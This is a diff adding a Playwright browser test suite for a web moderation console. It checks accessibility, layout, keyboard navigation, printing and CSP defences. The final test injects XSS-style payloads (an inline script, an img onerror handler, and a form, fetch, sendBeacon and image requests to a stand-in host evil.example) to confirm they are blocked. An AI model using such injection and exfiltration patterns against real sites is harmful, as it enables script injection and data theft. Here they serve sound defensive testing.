@@ -1,0 +1,361 @@
+"""The console in a real browser: keys, swaps, both schemes, axe, print, and attacks that stay text."""
+
+import importlib.util
+import re
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import urlencode
+
+import pytest
+import uvicorn
+
+from console_world import HOSTILE, PASSWORD, World, world
+from stillwatch.cases import work
+from stillwatch.console import Proposed
+from stillwatch.terms import Step
+from test_report_browser import FLAGS
+
+pytestmark = pytest.mark.browser
+CHROMIUM = Path("/usr/bin/chromium")
+if not CHROMIUM.exists() or importlib.util.find_spec("playwright") is None:
+    pytest.skip("needs Debian's chromium and playwright", allow_module_level=True)
+
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright  # noqa: E402
+
+SCHEMES = ["light", "dark"]
+
+
+@dataclass
+class Served:
+    """A console that answers on a port, and whom the browser is logged in as."""
+
+    world: World
+    address: str
+    big: str
+    hostile: str
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    made = world(tmp_path_factory.mktemp("console"))
+    big = made.cases["c-7f3a19"]
+    hostile = next(c for c in made.cases.values() if "<" in made.store.case(c, accounts=False).title)
+    now_us = made.clock[0]
+    for text in HOSTILE:
+        if text.strip():
+            work.note(made.store, hostile, text, who="anna", now_us=now_us)
+    work.suppress(
+        made.store, hostile, owner=HOSTILE[1], until_us=now_us + 86_400_000_000, who="anna", why=HOSTILE[2],
+        now_us=now_us,
+    )  # fmt: skip
+    work.appeal(made.store, hostile, "\n".join(HOSTILE), who="anna", now_us=now_us)
+    accounts = made.store.case(hostile).accounts
+    made.gateway.open[7] = Proposed(7, now_us, "c", Step.THROTTLE, HOSTILE[0], HOSTILE[1], accounts, now_us)
+    config = uvicorn.Config(made.app, port=0, log_config=None, lifespan="off", ws="none")
+    server = uvicorn.Server(config)
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    while not server.started:
+        time.sleep(0.02)
+    port = server.servers[0].sockets[0].getsockname()[1]
+    yield Served(made, f"http://127.0.0.1:{port}", big, hostile)
+    server.should_exit = True
+    thread.join(10)
+    made.store.close()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as p:
+        opened = p.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
+        yield opened
+        opened.close()
+
+
+@dataclass
+class Watched:
+    """A page with all that must not happen on it."""
+
+    page: Page
+    outside: list[str]
+    complaints: list[str]
+    dialogs: list[str]
+
+    def clean(self) -> None:
+        assert self.outside == []
+        assert self.complaints == []
+        assert self.dialogs == []
+        assert self.page.evaluate("window.stolen === undefined && window.owned === undefined")
+
+
+def enter(context: BrowserContext, served: Served, name: str = "paul") -> Watched:
+    """Log in through the form."""
+    page = context.new_page()
+    watched = Watched(page, [], [], [])
+    page.on("request", lambda r: None if r.url.startswith(served.address) else watched.outside.append(r.url))
+    page.on("console", lambda m: watched.complaints.append(m.text))
+    page.on("pageerror", lambda e: watched.complaints.append(str(e)))
+    page.on("dialog", lambda d: (watched.dialogs.append(d.message), d.dismiss()))
+    page.goto(served.address)
+    page.fill("#name", name)
+    page.fill("#password", PASSWORD)
+    page.click("button.main")
+    page.wait_for_selector("main h1")
+    return watched
+
+
+@pytest.fixture(params=SCHEMES)
+def inside(browser: Browser, served: Served, request: pytest.FixtureRequest) -> Iterator[Watched]:
+    context = browser.new_context(color_scheme=request.param, viewport={"width": 1280, "height": 900})
+    yield enter(context, served)
+    context.close()
+
+
+def pages(served: Served) -> list[str]:
+    bad = f"/case/{served.hostile}"
+    account = "/account?" + urlencode({"name": HOSTILE[0]})
+    return [
+        "/queue?state=all&suppressed=all", bad, f"/case/{served.big}", f"{bad}/accounts", f"{bad}/links",
+        f"{bad}/alert", f"/actor/{served.hostile}", account, "/approvals", "/detectors", "/terms", "/audit",
+        "/health", "/sql", "/nowhere", "/case/case-0000000000",
+    ]  # fmt: skip
+
+
+def unfold(page: Page) -> None:
+    page.evaluate("document.querySelectorAll('main details').forEach(d => { d.open = true })")
+
+
+def look(served: Served, watched: Watched, axe: object, expected: int = 200) -> None:
+    """Look at the page that is open: nothing wrong for axe, nothing wider than the window, nothing run."""
+    page = watched.page
+    unfold(page)
+    for target in page.query_selector_all("main bdi, main time")[:60]:
+        target.dispatch_event("mouseover")
+    found = axe.run(page)  # type: ignore[attr-defined]
+    assert found.violations_count == 0, (page.url, found.generate_report())
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), page.url
+
+
+def test_every_page_is_sound_in_both_schemes_with_every_attack_on_it(served: Served, inside: Watched) -> None:
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
+    for path in pages(served):
+        inside.page.goto(served.address + path)
+        look(served, inside, axe)
+        inside.complaints[:] = [c for c in inside.complaints if "404 (Not Found)" not in c]
+        inside.clean()
+
+
+def test_pages_behind_forms_are_sound_too(served: Served, inside: Watched) -> None:
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
+    page = inside.page
+    # texts of an account, asked for with a reason
+    page.goto(f"{served.address}/case/{served.hostile}")
+    page.locator("#members tbody th a").nth(4).click()
+    page.fill("#why", HOSTILE[0])
+    page.click("text=Show its newest texts")
+    page.wait_for_selector(".prompt")
+    look(served, inside, axe)
+    assert page.locator(".prompt").count() == 2 * len(HOSTILE)
+    # a dry run, and the step that waits
+    page.goto(f"{served.address}/case/{served.hostile}")
+    page.select_option("#step", "block")
+    page.fill("#act-why", HOSTILE[1])
+    page.click("text=Dry run on")
+    page.wait_for_selector("text=Nothing is done yet")
+    look(served, inside, axe)
+    page.click("#act-ask")
+    page.wait_for_selector("text=The step waits for a second person.")
+    look(served, inside, axe)
+    page.locator("aside a[href*='/ask/']").first.click()
+    page.wait_for_selector("text=You asked for this")
+    look(served, inside, axe)
+    # SQL with an answer, the chain verified, an error
+    page.goto(f"{served.address}/sql")
+    page.fill("#query", "SELECT title, id FROM cases")
+    page.click("button.main")
+    page.wait_for_selector("#h-answer")
+    look(served, inside, axe)
+    page.goto(f"{served.address}/audit")
+    page.click("text=Verify now")
+    page.wait_for_selector("text=Sound:")
+    look(served, inside, axe)
+    inside.clean()
+    page.goto(f"{served.address}/queue?offset=x")
+    look(served, inside, axe)
+    page.click("text=Log out")
+    page.wait_for_selector("#password")
+    look(served, inside, axe)
+
+
+@pytest.mark.parametrize("width", [320, 390, 768])
+def test_nothing_is_wider_than_a_small_window(browser: Browser, served: Served, width: int) -> None:
+    context = browser.new_context(viewport={"width": width, "height": 844})
+    watched = enter(context, served)
+    for path in pages(served):
+        watched.page.goto(served.address + path)
+        unfold(watched.page)
+        assert watched.page.evaluate("document.documentElement.scrollWidth") <= width, path
+    context.close()
+
+
+def test_the_queue_is_worked_without_a_mouse(browser: Browser, served: Served) -> None:
+    context = browser.new_context()
+    watched = enter(context, served, "anna")
+    page = watched.page
+    page.goto(f"{served.address}/queue?state=all&suppressed=all")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.className") == "skip"
+    page.keyboard.press("j")
+    page.keyboard.press("j")
+    page.keyboard.press("k")
+    assert page.locator("tr.at").count() == 1
+    first = page.locator("table.rows tbody tr").first
+    assert "at" in (first.get_attribute("class") or "")
+    page.keyboard.press("o")
+    page.wait_for_url("**/case/*")
+    page.keyboard.press("n")
+    assert page.evaluate("document.activeElement.id") == "note"
+    page.keyboard.type("just: a qnote jk")  # keys are letters while somebody writes
+    assert page.input_value("#note") == "just: a qnote jk"
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=The note is kept.")
+    assert page.locator("#said").inner_text() == "The note is kept."
+    page.keyboard.press("a")
+    assert page.evaluate("document.activeElement.id") == "step"
+    page.evaluate("document.activeElement.blur()")
+    page.keyboard.press("?")
+    assert page.locator("#keys").is_visible()
+    page.keyboard.press("Escape")
+    page.wait_for_selector("#keys", state="hidden")
+    page.keyboard.press("q")
+    page.wait_for_url("**/queue")
+    page.keyboard.press("j")
+    title = page.locator("tr.at th a").inner_text()
+    page.keyboard.press("a")
+    page.wait_for_selector("text=The case is yours.")
+    assert title
+    watched.clean()
+    context.close()
+
+
+def test_filters_and_pages_swap_and_stand_in_the_address(browser: Browser, served: Served) -> None:
+    context = browser.new_context()
+    watched = enter(context, served)
+    page = watched.page
+    loads: list[str] = []
+    page.on("load", lambda _: loads.append(page.url))
+    page.select_option("#state", "closed")
+    page.wait_for_selector("text=No case fits.")
+    assert "state=closed" in page.url
+    page.select_option("#state", "all")
+    page.wait_for_selector("#rows table")
+    assert loads == []  # swapped, not loaded
+    page.reload()
+    assert page.input_value("#state") == "all"
+    page.goto(f"{served.address}/case/{served.big}")
+    loads.clear()
+    first = page.locator("#members tbody th").first.inner_text()
+    page.locator("#members a[rel=next]").click()
+    page.wait_for_function("t => document.querySelector('#members tbody th').innerText !== t", arg=first)
+    assert loads == []
+    assert "offset=25" in page.url
+    page.fill("#starts", "acct_0400")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=16 accounts, by name.")
+    assert all(n.startswith("acct_0400") for n in page.locator("#members tbody th").all_inner_texts())
+    watched.clean()
+    context.close()
+
+
+def test_it_can_be_read_without_scripts(browser: Browser, served: Served) -> None:
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(f"{served.address}/case/{served.big}")
+    page.fill("#name", "rita")
+    page.fill("#password", PASSWORD)
+    page.click("button.main")
+    assert page.url.endswith(f"/case/{served.big}")  # it went on to where it was asked for
+    assert page.locator("h1").is_visible()
+    page.locator("#members a[rel=next]").click()
+    assert "offset=25" in page.url
+    assert page.locator("#members tbody tr").count() == 25
+    page.goto(f"{served.address}/queue")
+    page.select_option("#state", "closed")
+    page.get_by_role("button", name="Show").click()
+    assert "state=closed" in page.url
+    page.goto(f"{served.address}/case/{served.big}")
+    page.locator("summary", has_text="As a table").click()
+    assert page.locator("details table").first.is_visible()
+    context.close()
+
+
+def test_times_are_utc_with_the_readers_own_on_hover(browser: Browser, served: Served) -> None:
+    context = browser.new_context(timezone_id="Asia/Tokyo", locale="en-GB")
+    watched = enter(context, served)
+    time_ = watched.page.locator("main time").first
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", time_.get_attribute("title") or "")
+    time_.hover()
+    assert "GMT+9" in (time_.get_attribute("title") or "") or "JST" in (time_.get_attribute("title") or "")
+    context.close()
+
+
+def test_the_scheme_follows_the_system(browser: Browser, served: Served) -> None:
+    shades = {}
+    for scheme in SCHEMES:
+        context = browser.new_context(color_scheme="dark" if scheme == "dark" else "light")
+        watched = enter(context, served)
+        shades[scheme] = watched.page.evaluate("getComputedStyle(document.body).backgroundColor")
+        context.close()
+    assert shades["light"] != shades["dark"]
+
+
+def test_a_case_is_printed_whole_and_without_controls(browser: Browser, served: Served) -> None:
+    context = browser.new_context(color_scheme="dark")
+    watched = enter(context, served)
+    page = watched.page
+    page.goto(f"{served.address}/case/{served.big}")
+    page.emulate_media(media="print")
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.evaluate("[...document.querySelectorAll('main details')].every(d => d.open)")
+    for hidden in ("header nav", "aside", "#members .pages", "footer .twins", "form.filters"):
+        assert not page.locator(hidden).first.is_visible(), hidden
+    assert page.locator(".printed").is_visible()
+    assert page.locator("#h-why").is_visible()
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
+    assert len(page.pdf(format="A4")) > 20_000
+    watched.clean()
+    context.close()
+
+
+def test_a_script_that_got_in_would_not_run_and_reach_nobody(browser: Browser, served: Served) -> None:
+    context = browser.new_context()
+    watched = enter(context, served)
+    page = watched.page
+    stopped: list[str] = []
+    page.on("requestfailed", lambda r: stopped.append(r.url) if r.failure == "csp" else None)
+    page.evaluate(
+        """() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.stolen = 1';
+        document.body.append(script);
+        const box = document.createElement('div');
+        const evil = 'https://evil.example/';
+        box.innerHTML = `<img src=x onerror="window.stolen = 2"><form action="${evil}"><button id=b></form>` +
+            `<a hx-get="${evil}" hx-trigger="load">x</a><link rel=stylesheet href="${evil}c.css">`;
+        document.body.append(box);
+        document.querySelector('#b').click();
+        new Image().src = 'https://evil.example/i';
+        fetch('https://evil.example/f').catch(() => {});
+        navigator.sendBeacon('https://evil.example/b', 'x');
+        }"""
+    )
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.stolen === undefined")
+    assert page.url.startswith(served.address)
+    assert sorted(stopped) == sorted(watched.outside)  # the browser tells of requests that it did not send
+    assert any("Content Security Policy" in c for c in watched.complaints)
+    context.close()
